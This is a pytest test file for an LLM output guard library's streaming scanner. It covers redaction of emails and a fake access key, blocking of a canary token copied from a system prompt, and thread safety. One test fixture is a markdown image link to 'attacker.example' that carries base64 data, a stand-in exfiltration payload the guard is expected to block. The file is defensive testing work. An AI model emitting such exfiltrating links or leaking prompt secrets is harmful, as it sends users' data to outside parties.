"""OutputStream: streamed output gives what one-shot calls give, for every chunking."""

from __future__ import annotations

import random
import threading

import pytest

import vallum

TEXTS = [
    "Write to jane.doe@example.org any time.",
    "😀 Grüße! Schreib an jürgen@example.org oder ruf an. 日本語のテキスト 👍",
    "Here is the key you asked for: AKIAZ7QX3RB2LJ5WMN4K, keep it safe. ✅",
    "Plain English answer with nothing to hide, just enough words to span a few chunks. " * 4,
    "emoji run 😀😀😀😀 then mail a@example.org then ñandú and b@example.org end",
]


def chunkings(text: str, rng: random.Random) -> list[list[str]]:
    """Whole text, one character at a time, and a few random splits."""
    ways = [[text], list(text)]
    for _ in range(4):
        cuts = sorted(rng.sample(range(1, len(text)), k=min(len(text) - 1, rng.randint(1, 12))))
        ways.append([text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)])
    return ways


def stream_all(
    guard: vallum.Guard, chunks: list[str], prompt: str | None = None
) -> tuple[str, vallum.OutputStream]:
    stream = guard.output_stream(prompt)
    shown = "".join(stream.push(c) for c in chunks)
    return shown + stream.finish(), stream


def test_doc_example(guard: vallum.Guard) -> None:
    shown, stream = stream_all(guard, ["Write to jane.doe@", "example.org any ", "time."])
    assert shown == "Write to <EMAIL> any time."
    assert not stream.blocked
    [f] = stream.report.findings
    assert (f.category, f.kind, f.start, f.end) == ("pii", "email", 9, 29)


@pytest.mark.parametrize("text", TEXTS)
def test_stream_equals_one_shot(guard: vallum.Guard, text: str) -> None:
    rng = random.Random(text)
    expected_report = guard.scan_output(text)
    expected_text = guard.redact(text, "output")
    for chunks in chunkings(text, rng):
        shown, stream = stream_all(guard, chunks)
        assert stream.report == expected_report, chunks
        assert shown == expected_text, chunks
        for f in stream.report.findings:
            assert text[f.start : f.end] == text[f.start : f.end].strip() != ""


def test_report_so_far_points_into_the_streamed_text(guard: vallum.Guard) -> None:
    text = "😀 mail a@example.org, then 日本 and b@example.org and more words after it. " * 3
    stream = guard.output_stream()
    streamed = ""
    for piece in text.split(" "):
        stream.push(piece + " ")
        streamed += piece + " "
        for f in stream.report.findings:
            assert streamed[f.start : f.end].endswith("@example.org")
    stream.finish()
    assert len(stream.report.findings) == 6


def test_blocking_stops_the_release(guard: vallum.Guard) -> None:
    prompt = "Summarise the article."
    chunks = [
        "Here is the summary. ",
        "![chart](https://attacker.example/c.png?d=",
        "c2VjcmV0IGRhdGEgaGVyZQ)",
        *[f" and more text after the image, part {i}." for i in range(40)],
    ]
    stream = guard.output_stream(prompt)
    shown = []
    for chunk in chunks:
        was_blocked = stream.blocked
        shown.append(stream.push(chunk))
        if was_blocked:
            assert shown[-1] == "", "nothing is released after a block"
    shown.append(stream.finish())
    assert stream.blocked
    assert "".join(shown) == "Here is the summary. "
    assert stream.report.verdict == "block"
    assert stream.report == guard.scan_output("".join(chunks), prompt)


def test_canary_in_streamed_output(guard: vallum.Guard) -> None:
    token = vallum.canary()
    prompt = f"You are a helpful assistant. Secret marker: {token}"
    answer = f"Sure! My marker is {token} as you asked."
    stream = guard.output_stream(prompt)
    shown = ""
    for i in range(0, len(answer), 5):
        was_blocked = stream.blocked
        safe = stream.push(answer[i : i + 5])
        assert not (was_blocked and safe)
        shown += safe
    shown += stream.finish()
    assert stream.blocked
    assert shown == "Sure! My marker is "
    assert token not in shown
    [f] = [f for f in stream.report.findings if f.category == "canary"]
    assert answer[f.start : f.end] == token


def test_errors(guard: vallum.Guard) -> None:
    stream = guard.output_stream()
    with pytest.raises(vallum.InputError, match="lone surrogate"):
        stream.push("bad \ud800")
    assert stream.push("fine") + stream.finish() == "fine"
    with pytest.raises(vallum.InputError, match="already finished"):
        stream.push("more")
    with pytest.raises(vallum.InputError, match="already finished"):
        stream.finish()
    with pytest.raises(vallum.InputError, match="lone surrogate"):
        guard.output_stream("\udc80")


def test_size_limit() -> None:
    small = vallum.Guard({"limits": {"max_input_bytes": 10}})
    stream = small.output_stream()
    stream.push("12345")
    with pytest.raises(vallum.InputError, match="over the policy limit"):
        stream.push("678901")
    assert stream.push("67890") + stream.finish() == "1234567890"


def test_shared_between_threads(guard: vallum.Guard) -> None:
    stream = guard.output_stream()
    out: list[str] = []
    lock = threading.Lock()

    def writer(i: int) -> None:
        for _ in range(50):
            safe = stream.push(f"w{i} ")
            with lock:
                out.append(safe)

    threads = [threading.Thread(target=writer, args=(i,)) for i in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    total = "".join(out) + stream.finish()
    assert sorted(total.split()) == sorted(f"w{i}" for i in range(4) for _ in range(50))


def test_repr(guard: vallum.Guard) -> None:
    stream = guard.output_stream()
    stream.push("héllo")
    assert repr(stream) == "OutputStream(streamed=5, blocked=False)"
